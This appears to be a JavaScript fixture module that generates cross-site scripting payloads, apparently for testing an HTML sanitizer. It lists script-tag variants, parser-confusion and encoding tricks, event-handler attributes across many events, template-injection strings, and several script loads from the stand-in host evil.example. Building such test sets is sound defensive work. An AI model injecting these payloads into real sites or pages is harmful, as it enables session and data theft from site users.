// Scripts, and the attributes that hold one. WORD stands for a word of the snippet's own.

import { elsewhere, everywhere, twice } from "./placements.js";

const run = "owned='WORD'";

const tags = [
  ["a script", `<script>${run}</script>`],
  ["a script from elsewhere", `<script src="https://evil.example/WORD.js"></script>`],
  ["a script without protocol", `<script src=//evil.example/WORD></script>`],
  ["a module", `<script type="module">import "https://evil.example/WORD.js"; ${run}</script>`],
  ["a script in capitals", `<SCRIPT>${run}</SCRIPT>`],
  ["a script with a slash", `<script/x>${run}</script/x>`],
  ["a script with a line break", `<script\n>${run}</script\n>`],
  ["a script that is not closed", `<script>${run}//`],
  ["a script in a script", `<scr<script>ipt>${run}</scr</script>ipt>`],
  ["a script behind a doubled bracket", `<<script>${run}//<</script>`],
  ["a script in a comment that ends early", `<!--><script>${run}</script>-->`],
  ["a script behind a comment's wild end", `<!-- a --!><script>${run}</script> -->`],
  ["a script in an attribute", `<p title="</p><script>${run}</script>">WORD</p>`],
  ["a script in an unclosed attribute", `<p title="<script>${run}</script>\n\nWORD`],
  ["a script in CDATA", `<![CDATA[<script>${run}</script>]]>`],
  ["a script in a processing instruction", `<?xml <script>${run}</script> ?>`],
  ["a script in a declaration", `<!DOCTYPE html [<!ENTITY x "<script>${run}</script>">]>WORD`],
  ["a script of entities", `&lt;script&gt;${run}&lt;/script&gt;`],
  ["a script of numbers", `&#60;script&#62;${run}&#x3c;/script&#x3e;`],
  ["a script escaped twice", `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`],
  ["a script with backslashes", `\\<script>${run}\\</script>`],
  ["import maps", `<script type="importmap">{"imports":{"./dom.js":"https://evil.example/WORD.js"}}</script>`],
  ["speculation rules", `<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/WORD"]}]}</script>`],
  ["JSON with an end tag", `<script type="application/json">"</script><script>${run}</script>"`],
  ["noscript", `<noscript><p title="</noscript><img src=x onerror=${run}>">WORD</noscript>`],
  ["templates of frameworks", `{{constructor.constructor("${run}")()}} \${${run}} <%= ${run} %> #{${run}} [[${run}]]`],
];

const elements = [
  (on) => `<img src=x ${on}>WORD`,
  (on) => `<b ${on}>WORD</b>`,
  (on) => `<svg ${on}><circle r=9></svg>WORD`,
  (on) => `<details open ${on}><summary>WORD</summary>more</details>`,
  (on) => `<input autofocus ${on} value=WORD>`,
  (on) => `<a href=# ${on}>WORD</a>`,
  (on) => `<video src=x ${on}><source src=x></video>WORD`,
  (on) => `<body ${on}>WORD`,
  (on) => `<p tabindex=0 autofocus ${on}>WORD</p>`,
  (on) => `<table ${on}><tr><td>WORD</table>`,
  (on) => `<x-mine style="animation:spin 1s" ${on}>WORD</x-mine>`,
  (on) => `<span\n${on}\n>WORD</span>`,
  (on) => `<br/${on}>WORD`,
];

const events = `abort afterprint afterscriptexecute animationcancel animationend animationiteration animationstart auxclick
  beforecopy beforecut beforeinput beforematch beforepaste beforeprint beforescriptexecute beforetoggle beforeunload begin
  blur bounce cancel canplay canplaythrough change click close command contentvisibilityautostatechange contextmenu copy
  cuechange cut dblclick drag dragend dragenter dragexit dragleave dragover dragstart drop durationchange emptied end ended
  error finish focus focusin focusout formdata fullscreenchange gesturestart gotpointercapture hashchange input invalid
  keydown keypress keyup languagechange load loadeddata loadedmetadata loadstart lostpointercapture message messageerror
  mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel offline online pagehide pageshow paste
  pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate
  pointerup popstate progress ratechange rejectionhandled repeat reset resize scroll scrollend scrollsnapchange search
  securitypolicyviolation seeked seeking select selectionchange selectstart show slotchange stalled start storage submit
  suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun
  transitionstart unhandledrejection unload volumechange waiting webkitanimationstart wheel`;

const handlers = events.split(/\s+/).map((event, i) => [`on${event}`, elements[i % elements.length](`on${event}="${run}"`)]);

const spelled = [
  ["a handler without quotes", `<img src=x onerror=${run.replaceAll("'", "`")}>WORD`],
  ["a handler in capitals", `<IMG SRC=x ONERROR="${run}">WORD`],
  ["a handler behind slashes", `<img/src=x/onerror="${run}">WORD`],
  ["a handler with spaces around", `<img src=x onerror = "${run}" >WORD`],
  ["a handler behind a form feed", `<img src=x\fonerror="${run}">WORD`],
  ["a handler behind a quote that ends early", `<img src="x"onerror="${run}">WORD`],
  ["a handler of entities", `<img src=x onerror="&#111;wned='WORD'">WORD`],
  ["a handler behind a bracket in quotes", `<img alt=">" src=x onerror="${run}">WORD`],
  ["a handler in a title", `<a title='" onmouseover="${run}'>WORD</a>`],
  ["a handler in an unclosed tag", `<img src=x onerror="${run}" WORD`],
  ["a handler in a closing tag", `WORD</b onclick="${run}">`],
  ["a handler behind a NUL", `<img src=x \0onerror="${run}">WORD`],
];

export const scripts = [...twice(tags), ...elsewhere(handlers), ...twice(spelled), ...everywhere("an image", `<img src=x onerror="${run}">WORD`)];
